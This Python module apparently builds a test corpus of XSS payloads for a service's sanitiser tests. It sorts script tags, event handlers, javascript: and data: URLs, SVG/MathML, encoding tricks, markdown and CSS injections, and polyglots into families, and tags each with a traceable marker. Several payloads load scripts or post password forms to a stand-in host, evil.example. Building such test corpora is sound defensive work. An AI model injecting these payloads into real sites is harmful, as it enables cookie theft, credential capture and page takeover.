"""A corpus of XSS vectors written for this service, grouped by family.

Every vector carries a marker ``X001``, ``X002`` ... (``@@`` below, numbered in corpus order)
inside its payload: in the script text, the handler, the URL or the style, so a vector that
turns active is caught by its marker and traced back to its line here. Tests put a field
letter after the ``X`` (``XB001`` for a comment body, ``XN001`` for a display name ...) with
``for_field``, so a leak also says which field it came through.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = ["FAMILIES", "MARKER", "VECTORS", "Vector", "for_field", "markers_in"]

# A marker: X, an optional field letter, three digits (fixed width: X01 is no prefix of X012),
# standing alone (or after a percent-encoded #): random site keys and tokens, made of letters,
# digits, - and _, hold no false marker.
MARKER = re.compile(r"(?:(?<![\w-])|(?<=%23))X[A-Z]?\d{3}(?![\w-])")
_SLOT = "@@"

FAMILIES: dict[str, list[str]] = {
    # Script elements: plain, with attributes, split, self-closing, in odd containers.
    "script": [
        "<script>alert('@@')</script>",
        '<script>alert("@@")</script>',
        "<script src=https://evil.example/@@.js></script>",
        "<script src=//evil.example/@@.js></script>",
        "<script type=module>import('https://evil.example/@@')</script>",
        "<script>/*@@*/alert(1)</script>",
        "<script\n>alert('@@')</script\n>",
        "<script/src=data:,alert('@@')></script>",
        "<script async defer>fetch('/@@')</script>",
        "<scr<script>ipt>alert('@@')</scr</script>ipt>",
        "</p><script>alert('@@')</script><p>",
        "<script>document.write('<img src=x onerror=alert(\"@@\")>')</script>",
        "<script nonce=abc>alert('@@')</script>",
        "<script type=text/javascript>eval(atob('@@'))</script>",
        "<textarea><script>alert('@@')</script></textarea>",
    ],
    # Event handler attributes on elements a sanitiser might keep.
    "event-handler": [
        "<img src=x onerror=alert('@@')>",
        "<img src=x onerror=\"alert('@@')\">",
        "<img/src=x/onerror=alert('@@')>",
        "<body onload=alert('@@')>",
        "<div onmouseover=\"alert('@@')\">hover</div>",
        "<a href=https://ok.example onclick=alert('@@')>click</a>",
        "<p onclick=alert('@@')>text</p>",
        "<input autofocus onfocus=alert('@@')>",
        "<select autofocus onfocus=alert('@@')></select>",
        "<textarea autofocus onfocus=alert('@@')></textarea>",
        "<details open ontoggle=alert('@@')>",
        "<video><source onerror=alert('@@')></video>",
        "<audio src=x onerror=alert('@@')>",
        "<marquee onstart=alert('@@')>m</marquee>",
        "<em onmouseenter=alert('@@')>em</em>",
        "<strong onpointerdown=alert('@@')>b</strong>",
        "<blockquote onanimationstart=alert('@@')>q</blockquote>",
        "<code oncopy=alert('@@')>c</code>",
        "<button onclick=alert('@@')>b</button>",
        "<form><button formaction=javascript:alert('@@')>go</button></form>",
        "<img src=x onerror=alert`@@`>",
        "<img src=x onerror=&#97;lert('@@')>",
        "<img src=x onload=alert('@@') onerror=alert('@@')>",
        "<object onerror=alert('@@')></object>",
        "<br onclick=alert('@@')>",
    ],
    # javascript: and vbscript: URLs where a link or a frame would follow them.
    "javascript-url": [
        "<a href=javascript:alert('@@')>x</a>",
        "<a href=\"javascript:alert('@@')\">x</a>",
        "<a href=' javascript:alert(\"@@\")'>x</a>",
        "<a href=\"java\tscript:alert('@@')\">x</a>",
        "<a href=\"java\nscript:alert('@@')\">x</a>",
        "<a href=\"&#1;javascript:alert('@@')\">x</a>",
        "<a href=vbscript:msgbox('@@')>x</a>",
        "<iframe src=javascript:alert('@@')></iframe>",
        "<a href=\"jav&#x09;ascript:alert('@@')\">x</a>",
        "<a href=\"javascript&colon;alert('@@')\">x</a>",
        "<a href=\"javascript://%0Aalert('@@')\">x</a>",
        '<a href="javascript:void(0)" title=@@>x</a>',
        "javascript:alert('@@')",
        "<area href=javascript:alert('@@')>",
        "<a href=\"  JaVaScRiPt:alert('@@')\">x</a>",
    ],
    # data: URLs: HTML documents, scripts and SVG smuggled as data.
    "data-url": [
        "<a href=\"data:text/html,<script>alert('@@')</script>\">x</a>",
        "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@@>x</a>",
        "<iframe src=\"data:text/html,<script>alert('@@')</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert('@@')</script>\"></object>",
        "<embed src=\"data:image/svg+xml,<svg onload=alert('@@')>\">",
        "<script src=\"data:text/javascript,alert('@@')\"></script>",
        '<a href=" data:text/html,<b>@@</b>">x</a>',
        "<img src=\"data:image/svg+xml,<svg/onload=alert('@@')>\">",
        "<a href=\"DATA:text/html,<script>alert('@@')</script>\">x</a>",
        "<iframe srcdoc=\"<script>alert('@@')</script>\"></iframe>",
    ],
    # SVG: its own parsing rules, scripts, animations and xlink.
    "svg": [
        "<svg onload=alert('@@')>",
        "<svg/onload=alert('@@')>",
        "<svg><script>alert('@@')</script></svg>",
        "<svg><script href=data:,alert('@@') /></svg>",
        "<svg><a xlink:href=javascript:alert('@@')><text x=20 y=20>x</text></a></svg>",
        "<svg><a href=javascript:alert('@@')><text>x</text></a></svg>",
        "<svg><animate onbegin=alert('@@') attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert('@@') />",
        "<svg><foreignObject><img src=x onerror=alert('@@')></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert('@@')>#x\"/></svg>",
        "<svg><image href=x onerror=alert('@@')></image></svg>",
        "<svg><style>@import 'https://evil.example/@@.css'</style></svg>",
        "<svg><desc><![CDATA[</desc><script>alert('@@')</script>]]></svg>",
        "<svg><title><img src=x onerror=alert('@@')></title></svg>",
        "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert('@@')",
    ],
    # MathML: namespace confusion and links.
    "mathml": [
        "<math><mtext><img src=x onerror=alert('@@')></mtext></math>",
        "<math href=javascript:alert('@@')>click</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert('@@')>x</maction></math>",
        "<math><mi xlink:href=\"data:x,<script>alert('@@')</script>\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('@@')>",
        "<math><style><img src=x onerror=alert('@@')></style></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert('@@')>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('@@')>",
    ],
    # Encoded variants: entities, percent-encoding, JS and CSS escapes, double encoding.
    "encoded": [
        "&lt;script&gt;alert('@@')&lt;/script&gt;",
        "&#60;script&#62;alert('@@')&#60;/script&#62;",
        "&#x3C;img src=x onerror=alert('@@')&#x3E;",
        "%3Cscript%3Ealert('@@')%3C/script%3E",
        "%253Cscript%253Ealert('@@')%253C/script%253E",
        "\\u003cscript\\u003ealert('@@')\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert('@@')\\x3c/script\\x3e",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        "alert('@@')\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('@@')\">x</a>",
        "<a href=\"&#0000106avascript:alert('@@')\">x</a>",
        "<img src=x onerror=\"&#x61;lert('@@')\">",
        "&amp;lt;script&amp;gt;alert('@@')&amp;lt;/script&amp;gt;",
        "<a href=\"javascript:%61lert('@@')\">x</a>",
        "+ADw-script+AD4-alert('@@')+ADw-/script+AD4-",
        "<IMG SRC=\"jav&#x0A;ascript:alert('@@');\">",
    ],
    # Mixed case, odd whitespace and separators a naive filter misses.
    "mixed-case": [
        "<ScRiPt>alert('@@')</sCrIpT>",
        "<IMG SRC=x ONERROR=alert('@@')>",
        "<sVg OnLoAd=alert('@@')>",
        "<a HREF=JAVASCRIPT:alert('@@')>x</a>",
        "<iMg\tsRc=x\toNeRrOr=alert('@@')>",
        "<img\nsrc=x\nonerror=alert('@@')>",
        "<img/src='x'/onerror=alert('@@')>",
        "<img src=x onerror\f=alert('@@')>",
        "<BODY ONLOAD=alert('@@')>",
        "<IFRAME SRC=javascript:alert('@@')></IFRAME>",
        "<scRipt\x20src=//evil.example/@@></scRipt>",
        "<a\u00a0href=javascript:alert('@@')>x</a>",
    ],
    # Broken markup: unclosed tags, attribute and context break-outs, comments, CDATA.
    "broken-markup": [
        "\"><script>alert('@@')</script>",
        "'><script>alert('@@')</script>",
        "\" onmouseover=\"alert('@@')",
        "' onfocus='alert(\"@@\")' autofocus='",
        "</title><script>alert('@@')</script>",
        "</textarea><script>alert('@@')</script>",
        "</style><script>alert('@@')</script>",
        "</script><script>alert('@@')</script>",
        '<img src="x" alt=""onerror="alert(\'@@\')">',
        "<img src=x onerror=alert('@@')",
        "<<script>alert('@@');//<</script>",
        "<!--<script>alert('@@')</script>-->",
        "<!--><script>alert('@@')</script>-->",
        "<![CDATA[<script>alert('@@')</script>]]>",
        "<?xml version=\"1.0\"?><script>alert('@@')</script>",
        '<img """><script>alert(\'@@\')</script>">',
        "<a href=\"https://ok.example\" <img src=x onerror=alert('@@')>x</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('@@')>\">",
        "<div><p>unclosed <b><i><script>alert('@@')",
        "}}{{constructor.constructor('alert(\"@@\")')()}}",
    ],
    # Markdown: links and images whose target is a script, or which smuggle attributes.
    "markdown": [
        "[click](javascript:alert('@@'))",
        "[click](JaVaScRiPt:alert('@@'))",
        "[click](  javascript:alert('@@'))",
        "[click](<javascript:alert('@@')>)",
        "[click](javascript&#58;alert('@@'))",
        "[click](&#x6A;avascript:alert('@@'))",
        "[click](data:text/html;base64,PHNjcmlwdD4=#@@)",
        "[click](vbscript:msgbox('@@'))",
        '[click](https://ok.example "title" onclick="alert(\'@@\')")',
        "[click](https://ok.example\" onclick=\"alert('@@'))",
        "![img](javascript:alert('@@'))",
        "![img](https://ok.example/x.png\" onerror=\"alert('@@'))",
        "![x\" onerror=\"alert('@@')](https://ok.example/x.png)",
        "[a][ref]\n\n[ref]: javascript:alert('@@')",
        "<javascript:alert('@@')>",
        "<https://ok.example/\"onmouseover=\"alert('@@')>",
        "[<img src=x onerror=alert('@@')>](https://ok.example)",
        "[x](https://ok.example/@@)<script>alert(1)</script>",
        "`<script>alert('@@')</script>`",
        "```html\n<script>alert('@@')</script>\n```",
        "> <script>alert('@@')</script>",
        "**<img src=x onerror=alert('@@')>**",
        "[click](java\nscript:alert('@@'))",
        "[click](javascript:alert%28'@@'%29)",
    ],
    # CSS injection: style attributes and elements that load or run something.
    "css": [
        "<div style=\"background:url(javascript:alert('@@'))\">x</div>",
        "<div style=\"width:expression(alert('@@'))\">x</div>",
        '<p style="behavior:url(https://evil.example/@@.htc)">x</p>',
        "<style>@import 'https://evil.example/@@.css';</style>",
        "<style>body{background:url('https://evil.example/@@')}</style>",
        "<link rel=stylesheet href=https://evil.example/@@.css>",
        '<div style="-moz-binding:url(https://evil.example/@@.xml#x)">x</div>',
        '<span style="position:fixed;top:0;left:0;width:100%;height:100%" title=@@>overlay</span>',
        "<style>*{color:red}</style><p>@@</p>",
        "<a style=\"background-image:url(&quot;javascript:alert('@@')&quot;)\">x</a>",
        "<div style=\"background:url(data:text/html,<script>alert('@@')</script>)\">x</div>",
        "<table background=javascript:alert('@@')><td>x</td></table>",
    ],
    # Unicode tricks: look-alike brackets, bidi controls, zero-width characters, overlong forms.
    "unicode": [
        "\uff1cscript\uff1ealert('@@')\uff1c/script\uff1e",
        "\u003cscript\u003ealert('@@')\u003c/script\u003e",
        "<scr\u200bipt>alert('@@')</scr\u200bipt>",
        "<a href=\"java\u200bscript:alert('@@')\">x</a>",
        "\u202e<script>alert('@@')</script>",
        "<img src=x \u2028onerror=alert('@@')>",
        "\u00bcscript\u00bealert('@@')\u00bc/script\u00be",
        "<a href=\"\u0000javascript:alert('@@')\">x</a>",
        "<img src=x onerror=\u0061lert('@@')>",
        "\ufe64script\ufe65alert('@@')\ufe64/script\ufe65",
        "[cl\u0456ck](https://ok.example/@@)\u2066<script>\u2069",
        "\U0001d5ee<script>alert('@@')</script>",
    ],
    # Other active elements: frames, plugins, base, meta refresh, forms, templates, portals.
    "active-elements": [
        "<iframe src=https://evil.example/@@></iframe>",
        "<frameset><frame src=javascript:alert('@@')></frameset>",
        "<object data=https://evil.example/@@.swf></object>",
        "<embed src=https://evil.example/@@.swf>",
        "<applet code=Evil.class codebase=https://evil.example/@@></applet>",
        "<base href=https://evil.example/@@/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert('@@')\">",
        '<meta http-equiv=refresh content="0;url=https://evil.example/@@">',
        "<form action=https://evil.example/@@><input name=password></form>",
        "<template><script>alert('@@')</script></template>",
        "<portal src=https://evil.example/@@></portal>",
        "<isindex action=javascript:alert('@@') type=image>",
        "<video poster=javascript:alert('@@')></video>",
        "<input type=image src=x onerror=alert('@@')>",
        "<keygen autofocus onfocus=alert('@@')>",
    ],
    # Polyglots and template syntax: several contexts at once, server or client templates.
    "polyglot": [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('@@') )//%0D%0A//</stYle/</titLe/",
        "'\"--></style></script><script>alert('@@')</script>",
        "{{7*7}}{{alert('@@')}}",
        "${alert('@@')}",
        "{% raw %}<script>alert('@@')</script>{% endraw %}",
        "<%= alert('@@') %>",
        "'';!--\"<@@>=&{()}",
        "\"><svg/onload=alert('@@')>\"@x.y",
    ],
}


@dataclass(frozen=True)
class Vector:
    """One XSS payload, its family and its marker."""

    family: str
    marker: str
    text: str


def _number(families: dict[str, list[str]]) -> tuple[Vector, ...]:
    vectors = []
    for family, payloads in families.items():
        for payload in payloads:
            marker = f"X{len(vectors) + 1:03d}"
            vectors.append(Vector(family, marker, payload.replace(_SLOT, marker)))
    return tuple(vectors)


VECTORS: tuple[Vector, ...] = _number(FAMILIES)


def for_field(vector: Vector, letter: str) -> tuple[str, str]:
    """The vector's text and marker for one field: ``X012`` becomes ``XB012`` for letter B."""
    tagged = vector.marker[0] + letter + vector.marker[1:]
    return vector.text.replace(vector.marker, tagged), tagged


def markers_in(text: str) -> set[str]:
    """Every marker in ``text``."""
    return set(MARKER.findall(text))
